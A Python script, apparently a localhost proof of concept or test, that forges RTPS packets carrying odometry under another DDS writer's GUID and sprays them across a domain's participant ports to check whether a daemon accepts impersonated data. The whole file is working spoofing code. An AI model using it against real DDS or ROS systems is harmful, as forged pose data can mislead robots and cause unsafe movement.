#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Sends odometry of a frame that nobody has, in plain RTPS, as if it came from another's writer.

spoofed_odometry.py DOMAIN WRITER     WRITER: its GUID, as the daemon says from whom it takes odometry
"""
import socket
import struct
import sys
import time


def text(value: str) -> bytes:
    """A string of CDR, with padding for what follows, which begins at a multiple of four."""
    raw = value.encode() + b"\0"
    return struct.pack("<I", len(raw)) + raw + b"\0" * (-len(raw) % 4)


def odometry(frame: str) -> bytes:
    head = struct.pack("<iI", int(time.time()), 0) + text(frame) + text("base_link")
    head += b"\0" * (-len(head) % 8)
    pose = struct.pack("<7d", 0, 0, 1, 0, 0, 0, 1) + bytes(36 * 8)
    return b"\0\1\0\0" + head + pose + bytes(6 * 8 + 36 * 8)


def packet(writer: bytes, number: int) -> bytes:
    data = struct.pack("<HHI", 0, 16, 0) + writer[12:] + struct.pack("<iI", 0, number) + odometry("spoofed")
    return b"RTPS\2\1\1\x10" + writer[:12] + struct.pack("<BBH", 0x15, 0x05, len(data)) + data


def main() -> int:
    domain, writer = int(sys.argv[1]), bytes.fromhex(sys.argv[2].replace(":", ""))
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for number in range(50):
        for participant in range(31):  # the ports of a domain, RTPS 2.2, 9.6.1
            out.sendto(packet(writer, 1 << 30 | number), ("127.0.0.1", 7400 + 250 * domain + 11 + 2 * participant))
        time.sleep(0.02)
    return 0


if __name__ == "__main__":
    sys.exit(main())
